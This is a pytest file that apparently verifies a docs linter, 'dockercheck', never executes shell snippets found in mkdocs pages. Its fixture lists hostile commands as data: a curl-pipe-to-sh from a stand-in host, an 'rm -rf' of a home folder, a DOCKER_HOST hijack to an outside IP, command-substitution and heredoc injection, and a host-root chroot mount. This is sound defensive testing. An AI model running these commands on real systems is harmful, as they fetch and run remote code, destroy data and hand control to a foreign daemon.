"""Hostile snippets: nothing in a page is ever run, and docker is asked only about its own tree.

A temp site full of snippets that would do harm if anything ran them
(command substitution, backquotes, ``;``, ``&&``, pipes into ``sh``,
redirections, ``eval``, here-documents, ``PATH=`` and ``DOCKER_HOST=``
prefixes, ``rm -rf``) is built with ``mkdocs build`` and checked with the
``dockercheck`` command, each in a child Python that records every process
it starts (``sys.addaudithook``: subprocess.Popen, os.system, os.exec*,
os.posix_spawn, os.spawn*, os.fork...). The docker first on PATH is a
wrapper that logs its argv, then runs the real docker (or, without one, a
stand-in answering from the snapshot).

Every process must be docker itself, as ``docker <path of docker's own help
tree> --help [flag name]`` or ``docker --version``, in an empty temp folder,
with the bogus DOCKER_HOST; no shell; no canary file created.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from dockercheck.profile import BOGUS_HOST
from fakedocker import (
    FAKE_VERSION,
    assert_docker_argv,
    child_env,
    logging_docker,
    make_docker,
    make_site,
    python_fake,
    run_child,
)

pytestmark = pytest.mark.slow

SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "mksh", "fish", "csh", "tcsh", "busybox", "env", "python", "python3"}
EVENTS = {
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "os.forkpty",
    "os.startfile",
    "pty.spawn",
    "os.popen",
}

AUDITED = f"""\
import atexit, json, os, runpy, sys
LOG, MODULE, ARGS = sys.argv[1], sys.argv[2], sys.argv[3:]
WATCHED = {sorted(EVENTS)!r}
events = []

def plain(value):
    if value is None or isinstance(value, (str, int, float, bool)):
        return value
    if isinstance(value, bytes):
        return value.decode("utf-8", "replace")
    if isinstance(value, os.PathLike):
        return os.fspath(value)
    if isinstance(value, (list, tuple)):
        return [plain(v) for v in value]
    if hasattr(value, "items"):
        return {{str(plain(k)): plain(v) for k, v in value.items()}}
    return repr(value)

def hook(event, args):
    if event in WATCHED:
        events.append({{"event": event, "args": plain(list(args))}})

def dump():
    with open(LOG, "w", encoding="utf-8") as handle:
        json.dump(events, handle)

atexit.register(dump)
sys.addaudithook(hook)
sys.argv = [MODULE, *ARGS]
runpy.run_module(MODULE, run_name="__main__", alter_sys=True)
"""


def hostile_pages(canary: Path, trap_bin: Path, home: Path) -> dict[str, str]:
    """Pages whose snippets would create canary files (or worse) if anything ran them."""
    c = canary
    lines = [
        f"docker run $(touch {c}/subst) img",
        f"docker run `touch {c}/backquote` img",
        f"docker ps; touch {c}/semicolon",
        f"docker ps && touch {c}/and",
        f"docker ps || touch {c}/or",
        f"docker ps | sh -c 'touch {c}/pipe'",
        f"docker ps > {c}/redirect",
        f"docker ps 2>{c}/redirect2 >>{c}/redirect3",
        f'eval "touch {c}/eval"; docker ps',
        f"eval $(docker-machine env x); touch {c}/eval2",
        f"PATH={trap_bin} docker ps",
        f"PATH={trap_bin}:$PATH docker run img",
        "DOCKER_HOST=tcp://198.51.100.7:2375 docker ps",
        "env DOCKER_HOST=tcp://198.51.100.7:2375 DOCKER_CONFIG=/tmp/evil docker info",
        "docker -H tcp://198.51.100.7:2375 ps",
        f"docker --config {c}/config ps",
        "docker context use evil && docker ps",
        f"curl -fsSL http://get.docker.invalid | sh; touch {c}/curl",
        f"docker ps; rm -rf {home}",
        f"docker $(touch {c}/command) --help",
        f"docker run --$(touch {c}/flag) img",
        f"docker run -$(touch {c}/short) img",
        f'docker run --name "$(touch {c}/quoted)" img',
        f"docker container 'ls; touch {c}/word'",
        f"sudo docker exec -it web sh -c 'touch {c}/exec'",
        f"x=$(docker ps -q); touch {c}/assign",
        f"exec docker run img; touch {c}/exec2",
        f"{trap_bin}/docker ps",
        "./docker ps",
        "docker.exe ps",
        f"docker run --net host img; touch {c}/probe",
        f"docker run --bogus-flag img # $(touch {c}/comment)",
        "docker rnu ubuntu",
        f"docker build -t x - <<'EOF'\nFROM alpine\nRUN touch {c}/heredoc\nEOF",
        f"docker run -i img <<EOF\n$(touch {c}/heredoc2)\nEOF",
        f"cat <<EOF | sh\ntouch {c}/heredoc3\nEOF",
        f"docker run img sh -c \"$(printf 'touch {c}/printf')\"",
        f"python3 -c \"open('{c}/python', 'w')\" && docker ps",
        f"docker run -v /:/host img chroot /host touch {c}/chroot",
    ]
    shell = "\n".join(lines)
    console = "\n".join(f"$ {line}" for line in lines if "\n" not in line)
    inline = " ".join(f"`{line}`" for line in lines[:5])
    return {
        "hostile.md": f"# Hostile\n\n```sh\n{shell}\n```\n\n```bash\n{shell}\n```\n\nInline: {inline}\n",
        "console.md": f"# Console\n\n```console\n{console}\n```\n\n    {lines[0]}\n\n~~~shell\n{lines[2]}\n~~~\n",
    }


def _setup(tmp_path: Path) -> dict[str, Path]:
    paths = {name: tmp_path / name for name in ("canary", "trap", "home", "bin", "log")}
    for name in ("canary", "trap", "home", "bin"):
        paths[name].mkdir()
    (paths["home"] / "keep").write_text("x")
    # A docker on the snippet's own PATH: running it would leave a canary.
    make_docker(paths["trap"], f"#!/bin/sh\ntouch {paths['canary']}/trap-docker\n")
    # A stand-in with docker 28.2.2's answers and another version, so that it is asked about every
    # command (the real docker 28.2.2 would be asked for its version only: its help is the snapshot's).
    make_docker(tmp_path / "standin", python_fake())
    logging_docker(paths["bin"], str(tmp_path / "standin" / "docker"), paths["log"])
    (tmp_path / "audited.py").write_text(AUDITED)
    return paths


def _run_audited(tmp_path: Path, paths: dict[str, Path], cwd: Path, module: str, *args: str):
    """``python -m <module> <args>`` under the audit hook, with the wrapper first on PATH."""
    argv = [sys.executable, str(tmp_path / "audited.py"), str(tmp_path / "events.json"), module, *args]
    return run_child(argv, cwd, child_env(str(paths["bin"]), tmp_path / "cache"), 300)


def _check_spawned(tmp_path: Path, paths: dict[str, Path]) -> int:
    """Every process started in the child, and every docker call, is safe; returns how many."""
    events = json.loads((tmp_path / "events.json").read_text(encoding="utf-8"))
    wrapper = str(paths["bin"] / "docker")
    popens = [e for e in events if e["event"] == "subprocess.Popen"]
    assert [e for e in events if e["event"] != "subprocess.Popen"] == []  # no fork, exec, system, spawn
    for event in popens:
        executable, argv, cwd, env = event["args"]
        assert isinstance(argv, list), event  # an argv list, never a shell string
        assert executable in (None, wrapper), event
        assert argv[0] == wrapper, event
        assert Path(argv[0]).name not in SHELLS
        assert_docker_argv(argv[1:])
        assert env["DOCKER_HOST"] == BOGUS_HOST and env.get("DOCKER_CONFIG") != "/tmp/evil", event
        assert "198.51.100.7" not in json.dumps(env) and str(paths["trap"]) not in env.get("PATH", ""), event
        assert Path(cwd).name.startswith("dockercheck-") and not Path(cwd).is_relative_to(tmp_path), event
    calls = (
        [json.loads(line) for line in paths["log"].read_text(encoding="utf-8").splitlines()]
        if paths["log"].exists()
        else []
    )
    assert sorted(json.dumps(c["argv"]) for c in calls) == sorted(json.dumps(e["args"][1][1:]) for e in popens)
    for call in calls:
        assert_docker_argv(call["argv"])
        assert call["host"] == BOGUS_HOST and call["entries"] == []
    assert sorted(p.name for p in paths["canary"].iterdir()) == []
    assert (paths["home"] / "keep").read_text() == "x"
    return len(popens)


def test_mkdocs_build_runs_nothing_from_the_snippets(tmp_path):
    paths = _setup(tmp_path)
    site = make_site(tmp_path / "site", hostile_pages(paths["canary"], paths["trap"], paths["home"]))
    build = _run_audited(tmp_path, paths, site, "mkdocs", "build")
    assert "Traceback" not in build.output, build.output
    assert build.returncode == 0, build.output
    assert f"docker {FAKE_VERSION} help from docker {FAKE_VERSION} at" in build.output  # checked live, by the wrapper
    assert "docs/hostile.md:" in build.output and "DC001" in build.output  # the snippets were checked
    assert (site / "site" / "hostile" / "index.html").is_file()
    assert _check_spawned(tmp_path, paths) > 10  # a cold cache: docker was asked, through the wrapper


def test_cli_runs_nothing_from_the_snippets(tmp_path):
    paths = _setup(tmp_path)
    docs = tmp_path / "docs"
    docs.mkdir()
    for name, text in hostile_pages(paths["canary"], paths["trap"], paths["home"]).items():
        (docs / name).write_text(text, encoding="utf-8")
    run = _run_audited(tmp_path, paths, tmp_path, "dockercheck", "--format", "json", "docs")
    assert run.returncode == 1 and "Traceback" not in run.output, run.output
    assert {f["code"] for f in json.loads(run.stdout)} >= {"DC001", "DC002", "DC101"}
    assert _check_spawned(tmp_path, paths) > 10
    # again, from the disk cache: no process at all
    again = _run_audited(tmp_path, paths, tmp_path, "dockercheck", "--format", "json", "docs")
    assert again.stdout == run.stdout
    assert json.loads((tmp_path / "events.json").read_text(encoding="utf-8")) == []
